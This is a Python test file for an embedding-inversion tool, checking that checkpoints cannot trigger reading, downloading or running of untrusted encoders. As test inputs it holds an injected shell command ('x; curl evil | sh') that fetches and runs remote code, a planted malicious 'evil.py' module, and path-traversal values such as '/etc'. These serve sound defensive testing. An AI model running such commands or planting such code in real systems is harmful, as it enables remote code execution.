"""Which encoders a checkpoint may have loaded: known ones, and those that the user has named."""

import json
import re
import shutil
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from fakes import tiny_config, tiny_tokenizer
from test_encoder import bert
from unembed.cli.main import main
from unembed.config import Recipe
from unembed.encoders import recipes
from unembed.encoders.encoder import load_encoder
from unembed.encoders.recipes import describe
from unembed.errors import EncoderError
from unembed.inverter import Inverter
from unembed.server.models import load_models
from unembed.storage.checkpoint import build_denoiser, save_inverter
from unembed.training.fit import fit


@pytest.fixture(scope="module")
def encoder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of an encoder of 20 dimensions."""
    return bert(tmp_path_factory.mktemp("encoder"))


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user who has named no encoder yet."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state"


def save(folder: Path, recipe: Recipe) -> Path:
    """An inverter that names an encoder."""
    config = replace(tiny_config(), encoder=recipe)
    save_inverter(folder, build_denoiser(config, tiny_tokenizer()).state_dict(), tiny_tokenizer(), config, {})
    return folder


@pytest.fixture
def model(tmp_path: Path, encoder: Path) -> Path:
    return save(tmp_path / "model", describe(str(encoder), encoder))


@pytest.mark.parametrize(
    ("named", "revision"),
    [
        ("someone/whatever", None),
        ("/etc", None),
        ("../..", None),
        ("bert-base-uncased", None),
        ("Qwen/Qwen3-Embedding-0.6B", "refs/pr/1"),  # which anyone may propose
        ("x; curl evil | sh", None),
    ],
)
def test_a_checkpoint_alone_has_nothing_read_or_downloaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, named: str, revision: str | None
) -> None:
    def touched(*_: object) -> None:
        pytest.fail("the encoder was looked for")

    monkeypatch.setattr("unembed.encoders.encoder.locate", touched)
    model = save(tmp_path / "model", Recipe(named, 20, max_length=24, revision=revision))
    inverter = Inverter.from_pretrained(model)
    with pytest.raises(EncoderError, match=f"names the encoder {re.escape(repr(named))}.* --encoder ") as caught:
        inverter.encode("the cat")
    assert "\n" not in str(caught.value)
    assert "; curl" not in str(caught.value).replace(repr(named), "")  # as a shell would read it
    rows = np.eye(20, dtype=np.float32)[:2]
    with pytest.warns(UserWarning, match="cosines are not measured: the inverter names"):
        assert len(inverter.invert(rows)) == 2  # blind, which needs no encoder
    with pytest.raises(EncoderError, match="names the encoder"):
        load_models([str(model)], "cpu")
    with pytest.raises(EncoderError, match="names the encoder"):
        fit(model, [__file__])


def test_the_users_word_is_asked_for_once(model: Path, encoder: Path, state: Path) -> None:
    said = Inverter.from_pretrained(model, encoder=str(encoder)).encode("the cat")
    assert said.shape == (1, 20)
    np.testing.assert_array_equal(Inverter.from_pretrained(model).encode("the cat"), said)
    (kept,) = [*state.rglob("*.jsonl")]
    assert json.loads(kept.read_text()) == [str(encoder), None]
    kept.write_bytes(b"\xff\n")  # what cannot be read says nothing
    with pytest.raises(EncoderError, match="names the encoder"):
        Inverter.from_pretrained(model).encode("the cat")


def test_an_encoder_that_was_trained_with_needs_no_word(model: Path, encoder: Path, monkeypatch) -> None:
    load_encoder(replace(describe(str(encoder), encoder), precision="bfloat16"))  # as training does
    assert Inverter.from_pretrained(model).encode("the cat").shape == (1, 20)
    monkeypatch.chdir(encoder.parent)  # the same folder, written otherwise
    near = save(model.parent / "near", describe(encoder.name, encoder))
    assert Inverter.from_pretrained(near).encode("the cat").shape == (1, 20)
    monkeypatch.chdir(model.parent)
    with pytest.raises(EncoderError, match="names the encoder"):
        Inverter.from_pretrained(near).encode("the cat")


def test_where_nothing_can_be_kept_the_word_counts_for_the_call(model: Path, encoder: Path, state: Path) -> None:
    state.write_text("in the way")
    assert Inverter.from_pretrained(model, encoder=str(encoder)).encode("the cat").shape == (1, 20)
    with pytest.raises(EncoderError, match="names the encoder"):
        Inverter.from_pretrained(model).encode("the cat")


@pytest.mark.parametrize("command", [["invert", "the cat"], ["evaluate", "--tokens", "natural", "--texts"]])
def test_every_command_takes_the_users_word(model: Path, encoder: Path, tmp_path: Path, command: list[str]) -> None:
    if command[-1] == "--texts":
        (tmp_path / "t.txt").write_text("the cat\na red dog\n")
        command = [*command, str(tmp_path / "t.txt")]
    call = [*command, "--model", str(model), "--json"]
    refused = CliRunner().invoke(main, call)
    assert refused.exit_code == 1
    assert refused.stderr.startswith(f"unembed: the inverter names the encoder {str(encoder)!r}, which is not known")
    assert refused.stderr.count("\n") == 1
    done = CliRunner().invoke(main, [*call, "--encoder", str(encoder)])
    assert done.exit_code == 0, done.output
    assert CliRunner().invoke(main, call).exit_code == 0


def test_the_server_takes_the_users_word(model: Path, encoder: Path) -> None:
    with pytest.raises(EncoderError, match="names the encoder"):
        load_models([str(model)], "cpu", encoders=["another"])
    assert load_models([str(model)], "cpu", encoders=[str(encoder)]).default.inverter.encoder.recipe.dimension == 20


def test_only_files_that_run_no_code_are_downloaded(monkeypatch: pytest.MonkeyPatch, encoder: Path) -> None:
    asked: list[dict[str, object]] = []

    def fetch(*_: object, **options: object) -> str:
        asked.append(options)
        return str(encoder)

    monkeypatch.setattr("huggingface_hub.snapshot_download", fetch)
    recipes.locate(["someone/encoder"])
    assert asked[0]["allow_patterns"] == ["*.json", "*.safetensors", "*.txt", "*.model"]


def test_code_beside_an_encoder_is_not_run(tmp_path: Path, encoder: Path) -> None:
    copy, trace = tmp_path / "copy", tmp_path / "trace"
    shutil.copytree(encoder, copy)
    config = json.loads((copy / "config.json").read_text())
    config |= {"auto_map": {"AutoModel": "evil.Evil", "AutoConfig": "evil.Evil"}, "model_type": "evil"}
    (copy / "config.json").write_text(json.dumps(config))
    (copy / "evil.py").write_text(f"open({str(trace)!r}, 'w')")
    with pytest.raises(EncoderError):
        load_encoder(str(copy))
    assert not trace.exists()


def test_modules_stay_within_the_encoders_folder(tmp_path: Path, encoder: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(encoder, copy)
    for outside in ("../encoder", "/etc"):
        modules = json.loads((encoder / "modules.json").read_text())
        modules[2]["path"] = outside
        (copy / "modules.json").write_text(json.dumps(modules))
        with pytest.raises(EncoderError, match=f"module '{outside}' lies outside the folder"):
            load_encoder(str(copy))
